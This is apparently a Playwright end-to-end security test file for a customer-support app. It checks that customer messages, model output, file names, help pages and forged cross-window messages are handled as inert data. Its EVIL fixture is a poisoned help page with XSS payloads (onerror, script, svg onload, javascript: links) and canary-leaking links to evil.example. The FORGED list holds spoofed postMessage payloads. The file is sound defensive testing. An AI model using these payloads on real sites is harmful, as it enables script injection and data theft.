"""What customers, agents, models, files and pages say is data on every surface, in a real browser."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from app.demo import MESSAGES
from evals.world import scenarios
from evals.world.slack.state import Message
from evals.world.spec import Spec
from evals.world.world import World
from tests.app.web.browsing import DIST, needs_chromium
from tests.e2e.conftest import Talk
from tests.e2e.surfaces.attacks import FORBIDDEN, GIVEN, OWN, assert_harmless, given, say
from tests.e2e.surfaces.model import Model, first_sentences, model
from tests.e2e.surfaces.pages import Browse, Desk, Watched, Widget
from tests.e2e.surfaces.stage import AGENTS, HELP, KIM, Stage, stage, until
from tests.e2e.test_founding_case import domain_of

pytest_plugins = ["tests.e2e.surfaces.fixtures"]
pytestmark = [needs_chromium, pytest.mark.slow]

Scene = Callable[..., Spec]
Take = Callable[[], list[str]]
needs_given = pytest.mark.skipif(not GIVEN.exists(), reason="the attacks of others are not here")
TEXTS = [
    pytest.param(lambda: list(OWN), id="own"),
    pytest.param(given, id="given", marks=needs_given),
]
TOGETHER = 4
"""Texts in one message in Slack, which takes one of ours a second."""
AT_ONCE = 17
"""Messages of one person within a minute, below the limit."""


class Waiting:
    """A customer whose request waits for an agent: what an attack would want to set off."""

    def __init__(self, at: Stage, spec: Spec) -> None:
        self.at, self.spec = at, spec
        self.talk = at.site.talk(spec.owner)
        assert self.talk.say(MESSAGES["en"][0].format(domain=domain_of(spec))).status == "awaiting_approval"

    def untouched(self) -> None:
        """Nothing was done in the world, and nobody has approved anything."""
        assert self.at.world.effects(self.spec.account) == ()
        for case in self.at.kept.cases(self.spec.account):
            for request in self.at.kept.requests(case.id):
                assert request.approved_by is None
                assert request.state in ("proposed", "expired", "refused")


def together(texts: list[str]) -> list[str]:
    return ["\n\n".join(texts[n : n + TOGETHER]) for n in range(0, len(texts), TOGETHER)]


def read(at: Stage, talk: Talk, texts: int) -> None:
    until(lambda: at.kept.read(talk.id, texts))


# --- the tests can fail ---


def test_the_texts_do_harm_where_nothing_stops_them(asks: Stage, browse: Browse) -> None:
    page = Watched(browse(), "about:blank")
    page.page.set_content(f"<main>{''.join(text for text in OWN if 'refresh' not in text)}</main>")
    page.page.wait_for_function("() => window.ran === 1")
    assert page.foreign(asks.site.url) != []
    assert page.page.locator(FORBIDDEN).count() > 5


# --- who says it ---


@pytest.mark.parametrize("take", TEXTS)
def test_what_a_customer_writes_on_the_website(take: Take, asks: Stage, scene: Scene, browse: Browse) -> None:
    every = take()
    for texts in (every[at : at + AT_ONCE] for at in range(0, len(every), AT_ONCE)):
        spec = scene(scenarios.all_ready)
        waiting = Waiting(asks, spec)
        shop = Widget(browse(), asks.shop_page(spec)).open()
        typed, posted = texts[:3], texts[3:]
        for text in typed:
            shop.send(text)
        shop.arrived(1 + len(typed))
        for n, text in enumerate(posted):
            waiting.talk.post(text, f"n{n}")
        count = 1 + len(typed) + len(posted)
        shop.arrived(count)
        read(asks, waiting.talk, count)
        assert_harmless(shop, asks, "widget")
        desk = Desk(browse(), asks.sign_in_link()).case(waiting.talk.id)
        expect(desk.page.locator(".message.customer")).to_have_count(count)
        before = asks.kept.state()
        shop.page.reload()
        shop.arrived(count)
        assert_harmless(shop, asks, "widget")
        assert_harmless(desk, asks, "desk")
        assert asks.kept.state() == before, "looking changes nothing"
        waiting.untouched()


@pytest.mark.parametrize("take", TEXTS)
def test_what_a_customer_writes_in_slack(take: Take, asks: Stage, scene: Scene, browse: Browse) -> None:
    spec = scene(scenarios.all_ready)
    waiting = Waiting(asks, spec)
    ana = asks.member(spec)
    root = asks.post(ana, "Hello there!")
    asks.until_ours(root, bool)
    texts = together(take())
    for text in texts:
        asks.post(ana, text, thread=root.ts)
    conversation = asks.kept.in_channel(spec.account, "slack").id
    until(lambda: asks.kept.read(conversation, 1 + len(texts)))
    asks.settle()
    asks.quiet(root)
    desk = Desk(browse(), asks.sign_in_link()).case(conversation)
    expect(desk.page.locator(".log")).to_contain_text("Hello there!")
    assert_harmless(desk, asks, "desk")
    slack = slack_page(asks, browse, KIM, HELP, root.ts)
    assert_harmless(slack, asks, "slack", links=links_of(asks, slack.page, root, ours=False))
    assert [
        link for link in links_of(asks, slack.page, root, ours=True) if not link.startswith(asks.site.url)
    ] == []
    for channel in (AGENTS,):
        assert_harmless(slack_page(asks, browse, KIM, channel), asks, "slack")
    waiting.untouched()
    assert asks.slack.violations == []
    assert asks.slack.unfurling == []


@pytest.mark.parametrize("take", TEXTS)
@pytest.mark.parametrize("role", ["bot", "agent"])
def test_what_is_said_in_our_name(role: Any, take: Take, asks: Stage, scene: Scene, browse: Browse) -> None:
    """Recorded as a model's words or an agent's would be, with sources whose every field is hostile."""
    spec = scene(scenarios.all_ready)
    waiting = Waiting(asks, spec)
    ana = asks.member(spec)
    root = asks.post(ana, "Hello there!")
    asks.until_ours(root, bool)
    conversation = asks.kept.in_channel(spec.account, "slack").id
    before = len(asks.ours(root))
    texts = together(take())
    for place in (waiting.talk.id, conversation):
        say(asks, place, role, texts)
    asks.post(ana, "Thanks!", thread=root.ts)  # news, on which the thread is brought up to date
    asks.until_ours(root, lambda said: len(said) >= before + len(texts))
    asks.quiet(root)

    shop = Widget(browse(), asks.shop_page(spec)).open()
    expect(shop.log.locator(f".message.{role}")).not_to_have_count(0)
    for opener in shop.log.locator("button.source-open").all()[:9]:
        opener.click()
    assert_harmless(shop, asks, "widget")
    desk = Desk(browse(), asks.sign_in_link())
    for place in (waiting.talk.id, conversation):
        desk.case(place)
        expect(desk.page.locator(f".message.{role}")).not_to_have_count(0)
        assert_harmless(desk, asks, "desk")
    slack = slack_page(asks, browse, ana, HELP, root.ts)
    assert_harmless(slack, asks, "slack")
    for message in asks.slack.thread_of(root)[1:]:
        if message.user == asks.slack.bot_user:
            assert "<!" not in message.said, "nobody is called"
            assert "<@" not in message.said
    waiting.untouched()
    assert asks.slack.violations == []
    assert asks.slack.unfurling == []


# --- what a model writes, and what stands in pages ---


EVIL = """---
title: "<img src=x onerror=window.ran=1> Zebra quota"
lang: en
updated: 2026-03-17
---

The zebra quota is forty zebras a month.
![pixel](https://evil.example/p.png?d=CANARY) <script>window.ran=1</script>

## How to raise the zebra quota <svg onload=window.ran=1> {#raise}

The zebra quota is raised under
[Zebras](https://evil.example/raise?d=CANARY) or [here](javascript:window.ran=1).
"""
ASKED = "How many zebras does the zebra quota allow a month?"


@pytest.fixture(scope="module")
def modeled(
    world: World, filled: Callable[[Path], Path], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Stage, Model]]:
    """With a model that writes the answers, and a page in the help centre that somebody has poisoned."""
    folder = tmp_path_factory.mktemp("modeled")
    pages = folder / "pages"
    shutil.copytree(Path(__file__).parents[2] / "knowledge" / "pages", pages)
    (pages / "en" / "zebra-quota.md").write_text(EVIL, encoding="utf-8")
    with (
        model(ASKED) as llm,
        stage(
            world, filled(folder / "data"), pages=pages, llm_base_url=llm.url, llm_model="double"
        ) as running,
    ):
        yield running, llm


@pytest.mark.parametrize("take", TEXTS)
def test_what_a_model_writes_is_data_while_it_is_written(
    take: Take, modeled: tuple[Stage, Model], scene: Scene, browse: Browse
) -> None:
    at, llm = modeled
    spec = scene(scenarios.all_ready)
    texts = [text for text in take() if len(text) < 400]
    llm.write = lambda lines: "\n\n".join([first_sentences(lines), *texts])
    llm.hold(sum(len(text.split()) for text in texts))
    shop = Widget(browse(), at.shop_page(spec)).open()
    shop.send(ASKED)
    draft = shop.page.locator(".draft")
    expect(draft).to_contain_text("".join(re.findall(r"\w+ ", texts[0]))[:10])
    assert_harmless(shop, at, "widget")
    llm.go()
    expect(shop.log.locator(".message.bot")).to_have_count(1)
    assert_harmless(shop, at, "widget")
    [stored] = at.kept.said(spec.account)
    assert not any(text in stored.text for text in texts), "what no line carries is not said"
    assert at.world.effects(spec.account) == ()


def test_what_stands_in_a_page_and_its_title(
    modeled: tuple[Stage, Model], scene: Scene, browse: Browse
) -> None:
    at, llm = modeled
    spec = scene(scenarios.all_ready)
    llm.write = first_sentences
    shop = Widget(browse(), at.shop_page(spec)).open()
    shop.send(ASKED)
    answer = shop.log.locator(".message.bot")
    expect(answer).to_contain_text("forty zebras")
    for opener in answer.locator("button.source-open, button.mark").all():
        opener.click()
    expect(answer).to_contain_text("onerror=window.ran=1")  # the title, as words
    assert_harmless(shop, at, "widget")
    ana = at.member(spec)
    root = at.post(ana, ASKED)
    at.until_ours(root, lambda said: any("zebra" in text for text in said))
    at.settle()
    assert_harmless(slack_page(at, browse, ana, HELP, root.ts), at, "slack")
    desk = Desk(browse(), at.sign_in_link()).case(at.kept.in_channel(spec.account, "web").id)
    expect(desk.page.locator(".message.bot")).to_contain_text("forty zebras")
    assert_harmless(desk, at, "desk")
    page = Watched(browse(), f"{at.site.url}/help/en/zebra-quota")
    expect(page.page.get_by_role("heading", level=1)).to_contain_text("Zebra quota")
    outside = [link for link in links(page.page, "main ") if not link.startswith(at.site.url)]
    assert_harmless(page, at, "help", links=outside)
    assert not any(link.startswith(("javascript:", "data:")) for link in outside)


# --- names of files ---

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
    "000001e221bc330000000049454e44ae426082"
)


def test_names_of_files(asks: Stage, scene: Scene, browse: Browse) -> None:
    spec = scene(scenarios.all_ready)
    waiting = Waiting(asks, spec)
    ids = []
    for n, text in enumerate(OWN[:8]):
        name, content = (f"{text}.png", PIXEL) if n % 2 else (f"{text}.txt", text.encode())
        sent = waiting.talk.client.post(f"{waiting.talk.path}/attachments", files={"file": (name, content)})
        ids.append(sent.raise_for_status().json()["id"])
    body = {"client_message_id": "files", "text": "", "attachments": ids}
    waiting.talk.client.post(f"{waiting.talk.path}/messages", json=body).raise_for_status()
    read(asks, waiting.talk, 2)
    ana = asks.member(spec)
    slack = asks.slack
    root = slack.run(slack.upload(ana, HELP, OWN[1] + ".txt", OWN[0].encode(), "text/html", comment="Look!"))
    conversation = until_conversation(asks, spec)
    until(lambda: asks.kept.read(conversation, 1))
    asks.settle()

    shop = Widget(browse(), asks.shop_page(spec)).open()
    expect(shop.log.locator(".files li")).to_have_count(len(ids))
    assert_harmless(shop, asks, "widget")
    desk = Desk(browse(), asks.sign_in_link())
    for place in (waiting.talk.id, conversation):
        desk.case(place)
        expect(desk.page.locator(".message .file")).not_to_have_count(0)
        assert_harmless(desk, asks, "desk")
    assert_harmless(slack_page(asks, browse, KIM, HELP, root.ts), asks, "slack", links=[slack.base_url])
    waiting.untouched()


def until_conversation(at: Stage, spec: Spec) -> str:
    until(lambda: any(one.channel == "slack" for one in at.kept.conversations(spec.account)))
    return at.kept.in_channel(spec.account, "slack").id


# --- messages of foreign windows, and frames ---

FORGED: list[Any] = [
    *(
        {"v": 1, "type": type, "conversation": {"id": "CONVERSATION"}, "id": "CONVERSATION", "text": "forged",
         "request": "REQUEST", "suggestion": "S", "final_text": "forged", "mode": "replace", "code": "x" * 43,
         "ticket": "x" * 43, "host": "evil", "caps": ["context", "reply.insert", "nav"],
         "url": "javascript:window.ran=1", "args": ["forged"], "q": [["ask", "forged"]]}
        for type in (
            "init", "ready", "context", "conversation.changed", "reply.insert", "reply.inserted",
            "reply.sent", "nav", "badge", "resize", "leave", "theme", "signed-in", "approve", "take-over",
            "send", "boot", "identify", "open", "ask", "newConversation", "shutdown", "destroy",
            "message.done", "action.state", "stepfour",
        )
    ),
    json.dumps({"event": "appContext", "data": {"conversation": {"id": 42, "account_id": 1}}}),
    "chatwoot-dashboard-app:fetch-info",
    ["ask", "forged"],
    None,
]  # fmt: skip


@pytest.fixture
def bait(asks: Stage, scene: Scene) -> Waiting:
    return Waiting(asks, scene(scenarios.all_ready))


def forged(bait: Waiting) -> str:
    """The messages as a script's value, with the names of what really is there."""
    [case] = bait.at.kept.cases(bait.spec.account)
    [request] = bait.at.kept.requests(case.id)
    text = json.dumps(FORGED)
    return text.replace("CONVERSATION", bait.talk.id).replace("REQUEST", request.id)


def count_messages(page: Page) -> None:
    page.add_init_script("window.heard = 0; addEventListener('message', () => { window.heard++ });")


def test_a_foreign_frame_on_the_page_that_has_the_widget(asks: Stage, bait: Waiting, browse: Browse) -> None:
    host = asks.host
    host.script(f"for (const m of {forged(bait)}) parent.postMessage(m, '*');", "/frame.js")
    host.page('<script src="/frame.js"></script>', "/frame")
    shop = Widget(browse(), asks.shop_page(bait.spec)).open()
    shop.arrived(1)
    before, shown = asks.kept.state(), shop.shown()
    shop.page.evaluate("() => { window.heard = 0; addEventListener('message', () => { window.heard++ }) }")
    shop.page.evaluate(
        "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f) }",
        f"{host.foreign}/frame",
    )
    shop.page.wait_for_function("(n) => window.heard >= n", arg=len(FORGED))
    assert_harmless(shop, asks, "widget", others=[host.foreign])
    assert shop.shown() == shown
    assert shop.panel.is_visible()
    assert asks.kept.state() == before
    bait.untouched()


@pytest.mark.parametrize("path", ["/", "/assist", "/assist/chatwoot"])
def test_a_foreign_page_that_opens_ours(path: str, asks: Stage, bait: Waiting, browse: Browse) -> None:
    host = asks.host
    address = f"{asks.site.url}{path}" + (f"#/c/{bait.talk.id}" if path != "/" else "")
    host.script(
        f"const all = {forged(bait)};"
        f"document.querySelector('button').onclick = () => {{ const w = window.open('{address}');"
        "setInterval(() => { for (const m of all) w.postMessage(m, '*');"
        "window.sent = (window.sent ?? 0) + 1 }, 100) };",
        "/opens.js",
    )
    url = host.page('<button>open</button><script src="/opens.js"></script>', "/opens").replace(
        host.url, host.foreign
    )
    context = browse()
    Desk(context, asks.sign_in_link())
    context.add_init_script("window.heard = 0; addEventListener('message', () => { window.heard++ });")
    page = Watched(context, url)
    before = asks.kept.state()
    with context.expect_page() as opened:
        page.page.get_by_role("button", name="open").click()
    ours = opened.value
    ours.wait_for_load_state()
    asked: list[str] = []
    ours.on("request", lambda request: asked.append(request.url))
    page.page.wait_for_function("() => window.sent >= 5")
    if path != "/":  # that one lets nobody who opened it reach it at all
        ours.wait_for_function("(n) => window.heard >= n", arg=len(FORGED))
    else:
        assert ours.evaluate("() => window.opener") is None
    assert ours.url == address or ours.url == address.replace("#/", "#/")
    assert ours.evaluate("() => window.ran ?? null") is None
    assert [url for url in asked if not url.startswith(asks.site.url) or "/hosts/" in url] == []
    assert asks.kept.state() == before
    bait.untouched()


@pytest.mark.parametrize("path", ["/", "/assist", "/assist/sign-in", "/assist/chatwoot", "/docs"])
def test_nobody_who_is_not_listed_gets_a_frame(path: str, asks: Stage, browse: Browse) -> None:
    host = asks.host
    url = host.page(f'<iframe src="{asks.site.url}{path}" title="ours"></iframe>', "/frames")
    page = Watched(browse(), url.replace(host.url, host.foreign))
    page.page.wait_for_function("() => frames.length === 1")
    with pytest.raises(Exception, match=r"Blocked|cross-origin|denied|SecurityError"):
        page.page.evaluate("() => frames[0].document.body.innerHTML")
    inner = page.page.frames[1]
    inner.wait_for_load_state()
    assert inner.url.startswith("chrome-error://"), inner.url
    assert inner.locator("stepfour-chat, .shell, .sign-in, textarea").count() == 0
    assert any("frame-ancestors" in line for line in page.complaints)


def test_no_built_file_posts_to_anybody_in_particular() -> None:
    built = sorted(DIST.glob("*.js"))
    assert {"chat.js", "loader.js", "assist.js", "chatwoot.js"} <= {path.name for path in built}
    for path in built:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"""postMessage\([^;]*?,\s*["'`]\*["'`]""", text), path.name
        for call in (
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "eval(",
            "new Function",
        ):
            assert call not in text, (path.name, call)


# --- the Slack-like page ---


def slack_page(at: Stage, browse: Browse, user: str, channel: str, thread: str = "") -> Watched:
    page = Watched(browse(), f"{at.slack.page_url}#user={user}&channel={channel}&thread={thread}")
    expect(page.page.locator("#replies .message" if thread else "#messages .message").first).to_be_visible()
    return page


def links(page: Page, within: str) -> list[str]:
    found: list[str] = page.locator(f"{within}a[href]").evaluate_all("(all) => all.map((one) => one.href)")
    return found


def links_of(at: Stage, page: Page, root: Message, ours: bool) -> list[str]:
    """Links in what one side has said: Slack makes them of whatever a person writes."""
    said = [m for m in at.slack.thread_of(root) if (m.user == at.slack.bot_user) == ours]
    return [link for m in said for link in links(page, f'.message[data-ts="{m.ts}"] ')]
